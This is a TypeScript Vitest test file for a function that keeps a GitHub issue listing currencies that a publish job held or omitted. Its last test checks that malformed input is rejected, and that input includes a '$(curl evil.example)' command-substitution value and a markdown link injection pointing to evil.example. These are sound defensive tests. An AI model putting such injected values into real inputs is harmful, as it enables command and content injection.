import { explainQuality } from '../../snapshot/explain-quality.ts';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import type { LongDoubt } from '../../snapshot/long-doubts.ts';
import { startGitHubApi } from '../../testing/servers/github-api.ts';
import { heldHkd as hkd } from '../../testing/data/long-doubt.ts';
import { CommandError } from '../terminal/command.ts';
import { keepDoubtsIssue } from './doubts-issue.ts';

const omitted: LongDoubt = {
  ...hkd,
  code: 'BRL',
  state: 'left_out',
  reason: 'missing',
  published: null,
  publishedAsOf: null,
  basis: null,
  sourceValue: null,
  endsBy: null,
};

type GitHubApi = Awaited<ReturnType<typeof startGitHubApi>>;
let api: GitHubApi;
let runs: number;

beforeEach(async () => {
  api = await startGitHubApi([]);
  runs = 0;
  vi.stubEnv('GITHUB_API_URL', api.url);
  vi.stubEnv('GITHUB_REPOSITORY', 'me/fork');
  vi.stubEnv('GITHUB_TOKEN', 'a-token');
  vi.stubEnv('GITHUB_STEP_SUMMARY', '');
});
afterEach(async () => {
  vi.unstubAllEnvs();
  await api[Symbol.asyncDispose]();
});

const { signal } = new AbortController();
const keep = (output: string, outcome = 'success') =>
  keepDoubtsIssue(
    { signal, outcome, run: `https://github.com/me/fork/actions/runs/${++runs}`, hasIssues: true },
    output,
  );
const keepList = (doubts: readonly LongDoubt[], outcome?: string) => keep(JSON.stringify(doubts), outcome);
const states = () => api.issues.map(({ state }) => state);

describe('keepDoubtsIssue', () => {
  it('opens one issue, with a line for each currency and the run', async () => {
    await keepList([hkd, omitted]);
    expect(api.issues).toMatchObject([
      { state: 'open', title: 'A currency needs a look: held for a week, or omitted', comments: [] },
    ]);
    const body = api.issues[0]?.body ?? '';
    expect(body.match(/^- [A-Z]{3}.*$/gm)).toEqual([
      `- ${explainQuality('HKD', { ...hkd, witnesses: [] })}`,
      `- ${explainQuality('BRL', { ...omitted, witnesses: [] })}`,
    ]);
    expect(body).toContain('\n\n<!-- HKD held 2026-09-21 -->\n<!-- BRL left_out 2026-09-21 -->\n\n');
    expect(body).toMatch(/\n\nThe run that wrote this: https:\/\/github\.com\/me\/fork\/actions\/runs\/1$/);
  });

  it('leaves the issue as it is while the list is the same, also after GitHub changed the line ends', async () => {
    await keepList([hkd]);
    await keepList([hkd]);
    Object.assign(api.issues[0] ?? {}, { body: api.issues[0]?.body.replaceAll('\n', '\r\n') });
    await keepList([hkd]);
    expect(api.edits).toEqual([]);
    expect(states()).toEqual(['open']);
  });

  it('edits the text once, without a comment, when the list changes', async () => {
    await keepList([hkd]);
    for (let run = 0; run < 2; run++) await keepList([{ ...hkd, sourceValue: 8.3 }, omitted]);
    expect(api.edits).toEqual(['body']);
    expect(api.issues).toMatchObject([{ state: 'open', comments: [] }]);
    expect(api.issues[0]?.body).toMatch(/8\.3[^]*BRL[^]*runs\/2$/);
  });

  it('opens and edits also after a failed publish that got far enough to know', async () => {
    await keepList([hkd], 'failure');
    await keepList([omitted], 'cancelled');
    expect(api.edits).toEqual(['body']);
    expect(states()).toEqual(['open']);
  });

  it('closes the issue with a comment when a publish succeeds with an empty list, and opens another one next time', async () => {
    await keepList([hkd]);
    await keepList([], 'failure');
    expect(states()).toEqual(['open']);
    await keepList([]);
    await keepList([]);
    expect(api.issues).toMatchObject([
      {
        state: 'closed',
        comments: ['No currency needs a look any more: https://github.com/me/fork/actions/runs/3'],
      },
    ]);
    await keepList([hkd]);
    expect(states()).toEqual(['closed', 'open']);
  });

  it('opens no issue again that a person has closed, until another currency or state is on the list', async () => {
    await keepList([hkd, omitted]);
    Object.assign(api.issues[0] ?? {}, { state: 'closed' });
    await keepList([hkd, omitted]);
    await keepList([{ ...hkd, sourceValue: 8.3 }]);
    expect(states()).toEqual(['closed']);
    await keepList([{ ...hkd, state: 'left_out', since: '2026-10-20' }]);
    expect(states()).toEqual(['closed', 'open']);
  });

  it('changes nothing without the output of a publish', async () => {
    await keepList([hkd]);
    await keep('');
    await keep('', 'failure');
    expect(api.edits).toEqual([]);
    expect(states()).toEqual(['open']);
  });

  it('changes nothing in an issue with the same title by another author', async () => {
    const [title, body] = ['A currency needs a look: held for a week, or omitted', 'mine'];
    api.issues.push({ number: 1, state: 'open', title, labels: [], body, comments: [], author: 'me' });
    await keepList([]);
    await keepList([hkd]);
    await keepList([]);
    expect(api.issues).toMatchObject([{ state: 'open', body, comments: [] }, { state: 'closed' }]);
  });

  it.each([
    'nonsense',
    '{}',
    JSON.stringify([{ ...hkd, code: '@everyone' }]),
    JSON.stringify([{ ...hkd, reason: '`\n# [look](https://evil.example)' }]),
    JSON.stringify([{ ...hkd, sourceValue: '$(curl evil.example)' }]),
  ])('throws and changes nothing when the output is %s', async (output) => {
    await expect(keep(output)).rejects.toThrow(CommandError);
    await expect(keep(output)).rejects.toThrow(
      /^The publish job’s output "doubts" is malformed\. See \S+, which .*\.$/,
    );
    expect(api.issues).toEqual([]);
  });
});
